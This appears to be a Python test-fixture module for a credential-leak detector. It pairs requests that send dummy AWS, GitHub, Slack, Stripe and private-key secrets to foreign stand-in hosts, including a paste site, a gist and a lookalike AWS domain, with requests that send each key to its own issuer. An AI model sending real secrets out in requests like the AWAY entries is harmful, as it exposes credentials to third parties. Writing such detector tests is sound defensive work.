"""Requests that carry keys: to hosts that did not give them out, and to their own."""

AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2" * 9
SLACK = "xoxb-" + "123456789012-abc"
STRIPE = "sk_" + "live_" + "a1B2" * 6
BLOCK = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n"

AWAY: tuple[tuple[str, str, object], ...] = (
    ("POST", "https://hooks.b.example/in", {"key": AWS}),
    ("POST", "https://b.example/log", {"lines": [{"text": f"found {GITHUB} here"}]}),
    ("PUT", "https://paste.example/x", f"token={SLACK}"),
    ("GET", f"https://b.example/c?d={STRIPE}", None),
    ("POST", "https://api.github.com/gists", {"files": {"id": {"content": BLOCK}}}),
    ("POST", "https://[b.example/", {"key": AWS}),
    ("POST", "https://amazonaws.com.b.example/", {"key": AWS}),
)
HOME: tuple[tuple[str, str, object], ...] = (
    ("POST", "https://sts.amazonaws.com/", {"AccessKeyId": AWS}),
    ("POST", "https://api.github.com/applications/7/token", {"access_token": GITHUB}),
    ("POST", "https://slack.com/api/auth.test", {"token": SLACK}),
    ("GET", "https://maps.googleapis.com/maps/api/geocode/json?key=AIza" + "a1B2" * 9, None),
    ("POST", "http://localhost:8200/v1/secret/data/ci", {"data": {"key": AWS}}),
    ("POST", "https://b.example/log", {"key": "AKIA-short", "note": "no key at all"}),
    ("POST", "https://b.example/in", {"key": "sk_test_" + "a1B2" * 6}),
)
